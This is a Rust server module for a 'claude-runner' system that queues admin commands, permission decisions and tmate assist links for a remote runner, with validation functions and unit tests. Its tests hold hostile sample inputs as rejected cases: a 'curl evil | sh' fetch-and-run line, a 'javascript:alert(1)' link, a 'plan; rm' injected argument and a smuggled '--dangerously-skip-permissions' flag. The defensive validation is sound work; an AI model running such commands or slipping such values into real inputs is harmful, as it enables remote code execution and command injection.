//! The command channel: a person queues commands (admin), the runner long-polls and acknowledges
//! them (signed), and `claude-runner assist` posts its links through the same queue. A person's
//! decision on a permission request travels the same way, stamped here with who decided.
//!
//! A long poll waits on the run's bell (`crate::live`); queueing a command rings it, so a command
//! reaches a waiting runner as soon as it is committed. Deleting a run (`DELETE /api/runs/:id`)
//! wakes it too: the poll then answers `401 unknown_run`, which tells the runner the run is gone.

use std::time::Duration;

use axum::body::Body;
use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, StatusCode};
use axum::routing::{delete, get, post};
use axum::{Json, Router};
use common::wire::{
    self, AssistLink, AssistState, Command, CommandAck, CommandKind, PermissionChoice,
};
use serde::Deserialize;
use tokio::sync::Notify;

use crate::auth;
use crate::clock::now_ms;
use crate::error::ApiError;
use crate::http::{parse_json, read_body};
use crate::signed::{self, Signed};
use crate::state::AppState;

/// Longest a long poll may wait, in seconds.
pub const MAX_WAIT_SECS: u64 = 30;
/// Longest `exec` command line and `prompt` text accepted, in bytes.
const MAX_COMMAND_BYTES: usize = 4096;
const MAX_PROMPT_BYTES: usize = 32 * 1024;
/// Longest assist link accepted, in bytes.
const MAX_LINK_BYTES: usize = 2048;

/// The command routes, merged into [`crate::api::router`].
pub fn routes() -> Router<AppState> {
    Router::new()
        .route("/api/runs/{id}/commands", get(poll).post(enqueue))
        .route("/api/runs/{id}/commands/{cid}/ack", post(ack))
        .route("/api/runs/{id}", delete(delete_run))
        .route("/api/runs/{id}/assist", get(assist_state).post(post_assist))
        .route("/api/runs/{id}/permissions/{request_id}", post(decide))
}

/// Check what the admin asks for before it is queued.
fn check_kind(kind: &CommandKind) -> Result<(), ApiError> {
    match kind {
        CommandKind::Exec { command } => {
            if command.trim().is_empty() {
                return Err(ApiError::bad_request("invalid_field", "command is empty"));
            }
            if command.len() > MAX_COMMAND_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    format!("command is longer than {MAX_COMMAND_BYTES} bytes"),
                ));
            }
        }
        CommandKind::Prompt {
            prompt,
            model,
            permission_mode,
        } => {
            if prompt.trim().is_empty() {
                return Err(ApiError::bad_request("invalid_field", "prompt is empty"));
            }
            if prompt.len() > MAX_PROMPT_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    "prompt is longer than 32 KiB",
                ));
            }
            // The runner decides what it allows; here only the shape (it becomes an argument).
            for (name, v) in [("model", model), ("permission_mode", permission_mode)] {
                if v.as_deref().is_some_and(|v| !plain_name(v)) {
                    return Err(ApiError::bad_request(
                        "invalid_field",
                        format!(
                            "{name} must be 1 to 128 characters of [A-Za-z0-9._:/@[]-], not starting with -"
                        ),
                    ));
                }
            }
        }
        CommandKind::File { path } => {
            if path.trim().is_empty() || path.len() > MAX_COMMAND_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    format!("path must be 1 to {MAX_COMMAND_BYTES} bytes"),
                ));
            }
            if path.chars().any(char::is_control) {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    "path holds a control character",
                ));
            }
        }
        CommandKind::Stop | CommandKind::Interrupt | CommandKind::EndSession => {}
        CommandKind::Assist { .. } => {
            return Err(ApiError::bad_request(
                "invalid_field",
                "assist links are posted by the runner, not queued as commands",
            ));
        }
        CommandKind::Permission { .. } => {
            return Err(ApiError::bad_request(
                "invalid_field",
                "decisions are posted to /api/runs/:id/permissions/:request_id",
            ));
        }
    }
    Ok(())
}

/// A model or permission mode name: safe as a command-line argument.
fn plain_name(v: &str) -> bool {
    !v.is_empty()
        && v.len() <= 128
        && !v.starts_with('-')
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "._:/@[]-".contains(c))
}

/// `POST /api/runs/:id/permissions/:request_id` body.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct DecisionBody {
    decision: PermissionChoice,
    #[serde(default)]
    message: Option<String>,
    #[serde(default)]
    rule: Option<String>,
}

/// Check a decision before it is queued: a message only with `deny`, a rule only with
/// `allow_run`, both bounded and free of control characters (a message may hold line breaks).
fn check_decision(d: &DecisionBody) -> Result<(), ApiError> {
    let bad = |m: &str| Err(ApiError::bad_request("invalid_field", m.to_string()));
    if d.message.is_some() && d.decision != PermissionChoice::Deny {
        return bad("message goes with decision \"deny\"");
    }
    if d.rule.is_some() && d.decision != PermissionChoice::AllowRun {
        return bad("rule goes with decision \"allow_run\"");
    }
    let max = wire::MAX_PERMISSION_MESSAGE_BYTES;
    if let Some(m) = &d.message
        && (m.len() > max || m.chars().any(|c| c.is_control() && c != '\n' && c != '\t'))
    {
        return bad("message must be at most 4096 bytes without control characters");
    }
    if let Some(r) = &d.rule
        && (r.trim().is_empty() || r.len() > max || r.chars().any(char::is_control))
    {
        return bad("rule must be 1 to 4096 bytes without control characters");
    }
    Ok(())
}

/// Admin: `POST /api/runs/:id/permissions/:request_id` with `{"decision": "allow" |
/// "allow_run" | "deny", "message"?, "rule"?}`: queue a person's decision for the runner,
/// stamped with who decided. Only a request the run lists as waiting can be decided.
async fn decide(
    State(state): State<AppState>,
    Path((id, request_id)): Path<(String, String)>,
    headers: HeaderMap,
    body: Body,
) -> Result<(StatusCode, Json<Command>), ApiError> {
    auth::require_admin(&state, &headers)?;
    let bytes = read_body(body, &headers, state.limits.max_json_bytes).await?;
    let d: DecisionBody = parse_json(&bytes)?;
    check_decision(&d)?;
    require_live_run(&state, &id).await?;
    let waiting = state
        .store
        .run(id.clone())
        .await?
        .and_then(|r| r.summary.claude)
        .is_some_and(|c| c.pending_requests.contains(&request_id));
    if !waiting {
        return Err(ApiError::bad_request(
            "not_pending",
            "no permission request with this id waits for a decision",
        ));
    }
    let kind = CommandKind::Permission {
        request_id,
        decision: d.decision,
        message: d.message,
        rule: d.rule,
        // One person today: whoever holds the admin credentials.
        by: "admin".into(),
    };
    let command = queue(&state, &id, kind).await?;
    tracing::info!(run = %id, command = %command.id, "permission decision queued");
    Ok((StatusCode::CREATED, Json(command)))
}

/// Refuse work for a run that has ended (404 if there is no such run).
async fn require_live_run(state: &AppState, id: &str) -> Result<wire::RunStatus, ApiError> {
    let run = crate::http::stored_run(state.store.as_ref(), id).await?;
    if run.summary.status.is_terminal() {
        return Err(ApiError::bad_request(
            "run_finished",
            "the run has ended and takes no more commands",
        ));
    }
    Ok(run.summary.status)
}

/// Queue a command and wake the runner's long poll.
async fn queue(state: &AppState, id: &str, kind: CommandKind) -> Result<Command, ApiError> {
    let command = state
        .store
        .enqueue_command(id.to_string(), kind, now_ms())
        .await?;
    state.live.ring(id);
    Ok(command)
}

/// Admin: `DELETE /api/runs/:id`: the run, its events, commands and artifacts are deleted. A
/// runner still attached learns it from its next poll (`401 unknown_run`; a waiting poll is
/// woken), ends the session and removes an auto workspace.
async fn delete_run(
    State(state): State<AppState>,
    Path(id): Path<String>,
    headers: HeaderMap,
) -> Result<StatusCode, ApiError> {
    auth::require_admin(&state, &headers)?;
    if crate::http::run_id(&id).is_err() || !state.store.delete_run(id.clone()).await? {
        return Err(ApiError::NotFound("no such run"));
    }
    state.live.ring(&id);
    tracing::info!(run = %id, "run deleted");
    Ok(StatusCode::NO_CONTENT)
}

/// Admin: `POST /api/runs/:id/commands` with `{"kind": "exec" | "prompt" | "stop" |
/// "interrupt" | "end_session" | "file", …}`.
async fn enqueue(
    State(state): State<AppState>,
    Path(id): Path<String>,
    headers: HeaderMap,
    body: Body,
) -> Result<(StatusCode, Json<Command>), ApiError> {
    auth::require_admin(&state, &headers)?;
    let bytes = read_body(body, &headers, state.limits.max_json_bytes).await?;
    let kind: CommandKind = parse_json(&bytes)?;
    check_kind(&kind)?;
    require_live_run(&state, &id).await?;
    let command = queue(&state, &id, kind).await?;
    tracing::info!(run = %id, command = %command.id, "command queued");
    Ok((StatusCode::CREATED, Json(command)))
}

#[derive(Debug, Deserialize)]
struct PollQuery {
    wait: Option<u64>,
}

/// Runner: `GET /api/runs/:id/commands?wait=S`, the pending commands, waiting up to S seconds
/// (at most [`MAX_WAIT_SECS`]) for one to be queued.
async fn poll(
    State(state): State<AppState>,
    Path(id): Path<String>,
    Query(q): Query<PollQuery>,
    _signed: Signed<signed::RunRead>,
) -> Result<Json<Vec<Command>>, ApiError> {
    let wait = Duration::from_secs(q.wait.unwrap_or(0).min(MAX_WAIT_SECS));
    let bell = state.live.bell(&id);
    let answer = wait_for_commands(&state, &id, &bell, wait).await;
    drop(bell);
    Ok(Json(answer?))
}

async fn wait_for_commands(
    state: &AppState,
    id: &str,
    bell: &Notify,
    wait: Duration,
) -> Result<Vec<Command>, ApiError> {
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        // Registered before reading, so a command queued after the read still wakes us.
        let rung = bell.notified();
        tokio::pin!(rung);
        rung.as_mut().enable();
        let pending = state.store.pending_commands(id.to_string()).await?;
        if !pending.is_empty() {
            return Ok(pending);
        }
        // Deleted while (or before) waiting: say so now rather than at the next poll.
        if state.store.run(id.to_string()).await?.is_none() {
            return Err(ApiError::Unauthorized(common::sign::AuthReason::UnknownRun));
        }
        if tokio::time::timeout_at(deadline, rung).await.is_err() {
            return Ok(Vec::new());
        }
    }
}

/// Runner: `POST /api/runs/:id/commands/:cid/ack`: the runner took the command.
async fn ack(
    State(state): State<AppState>,
    Path((id, cid)): Path<(String, String)>,
    _signed: Signed<signed::RunJson>,
) -> Result<Json<CommandAck>, ApiError> {
    let acked = state.store.ack_command(id, cid).await?;
    Ok(Json(CommandAck { acked }))
}

/// Check a link before it is queued: tmate only, bounded, printable, plausible schemes.
fn check_link(link: &AssistLink) -> Result<(), ApiError> {
    let bad = |m: &str| Err(ApiError::bad_request("invalid_field", m.to_string()));
    if link.kind != "tmate" {
        return bad("type must be \"tmate\"");
    }
    let fields = [&link.url, &link.web, &link.reason];
    if fields.iter().any(|f| {
        f.as_ref()
            .is_some_and(|s| s.len() > MAX_LINK_BYTES || s.chars().any(char::is_control))
    }) {
        return bad("assist fields must be printable and at most 2048 bytes");
    }
    if link.url.as_ref().is_some_and(|u| !u.starts_with("ssh ")) {
        return bad("url must be an ssh command (\"ssh …\")");
    }
    if link
        .web
        .as_ref()
        .is_some_and(|w| !w.starts_with("https://"))
    {
        return bad("web must be an https:// link");
    }
    if !link.closed && link.url.is_none() {
        return bad("an open assist link needs url");
    }
    Ok(())
}

/// Runner (`claude-runner assist`): `POST /api/runs/:id/assist` queues the link for the run's
/// `start` process, which publishes it as an `assist` event (it owns the run's sequence).
async fn post_assist(
    State(state): State<AppState>,
    Path(id): Path<String>,
    signed: Signed<signed::RunJson>,
) -> Result<(StatusCode, Json<AssistState>), ApiError> {
    let link: AssistLink = parse_json(signed.body())?;
    check_link(&link)?;
    let run_status = require_live_run(&state, &id).await?;
    let command = queue(&state, &id, CommandKind::Assist { assist: link }).await?;
    Ok((
        StatusCode::ACCEPTED,
        Json(AssistState {
            run_status,
            command_id: Some(command.id),
        }),
    ))
}

/// Runner (`claude-runner assist`): `GET /api/runs/:id/assist`, the run's status, so the
/// assist session can end with the run.
async fn assist_state(
    State(state): State<AppState>,
    Path(id): Path<String>,
    _signed: Signed<signed::RunRead>,
) -> Result<Json<AssistState>, ApiError> {
    let run = state
        .store
        .run(id)
        .await?
        .ok_or(ApiError::NotFound("no such run"))?;
    Ok(Json(AssistState {
        run_status: run.summary.status,
        command_id: None,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn admin_commands_are_checked() {
        let exec = |c: &str| CommandKind::Exec { command: c.into() };
        assert!(check_kind(&exec("git status")).is_ok());
        assert!(check_kind(&exec("  ")).is_err());
        assert!(check_kind(&exec(&"x".repeat(5000))).is_err());
        assert!(check_kind(&CommandKind::Stop).is_ok());
        assert!(check_kind(&CommandKind::Interrupt).is_ok());
        assert!(check_kind(&CommandKind::EndSession).is_ok());
        let file = |p: &str| CommandKind::File { path: p.into() };
        assert!(check_kind(&file("src/main.rs")).is_ok());
        assert!(check_kind(&file(" ")).is_err());
        assert!(check_kind(&file("a\nb")).is_err());
        let prompt = |model: Option<&str>, mode: Option<&str>| CommandKind::Prompt {
            prompt: "go on".into(),
            model: model.map(String::from),
            permission_mode: mode.map(String::from),
        };
        assert!(
            check_kind(&CommandKind::Prompt {
                prompt: String::new(),
                model: None,
                permission_mode: None,
            })
            .is_err()
        );
        assert!(check_kind(&prompt(Some("claude-opus-4-1[1m]"), Some("acceptEdits"))).is_ok());
        assert!(check_kind(&prompt(Some("--dangerously-skip-permissions"), None)).is_err());
        assert!(check_kind(&prompt(None, Some("plan; rm"))).is_err());
        let permission = CommandKind::Permission {
            request_id: "pr_1".into(),
            decision: PermissionChoice::Allow,
            message: None,
            rule: None,
            by: "someone else".into(),
        };
        assert!(
            check_kind(&permission).is_err(),
            "only the decision route stamps `by`"
        );
        let d = |decision, message: Option<&str>, rule: Option<&str>| DecisionBody {
            decision,
            message: message.map(String::from),
            rule: rule.map(String::from),
        };
        assert!(check_decision(&d(PermissionChoice::Deny, Some("not now,\nplease"), None)).is_ok());
        assert!(
            check_decision(&d(
                PermissionChoice::AllowRun,
                None,
                Some("Bash(git status:*)")
            ))
            .is_ok()
        );
        assert!(check_decision(&d(PermissionChoice::Allow, Some("x"), None)).is_err());
        assert!(check_decision(&d(PermissionChoice::Deny, None, Some("Edit"))).is_err());
        assert!(check_decision(&d(PermissionChoice::Deny, Some("\u{1b}[2J"), None)).is_err());
        assert!(check_decision(&d(PermissionChoice::AllowRun, None, Some(" "))).is_err());
        let link = AssistLink {
            kind: "tmate".into(),
            url: Some("ssh a@b".into()),
            web: Some("https://b".into()),
            expires_at: None,
            closed: false,
            reason: None,
        };
        assert!(check_link(&link).is_ok());
        assert!(
            check_kind(&CommandKind::Assist {
                assist: link.clone()
            })
            .is_err(),
            "the admin cannot forge assist links"
        );
        let mut bad = link.clone();
        bad.url = Some("curl evil | sh".into());
        assert!(check_link(&bad).is_err());
        let mut bad = link.clone();
        bad.web = Some("javascript:alert(1)".into());
        assert!(check_link(&bad).is_err());
        let mut bad = link;
        bad.url = Some("ssh a@b\nX".into());
        assert!(check_link(&bad).is_err());
    }
}
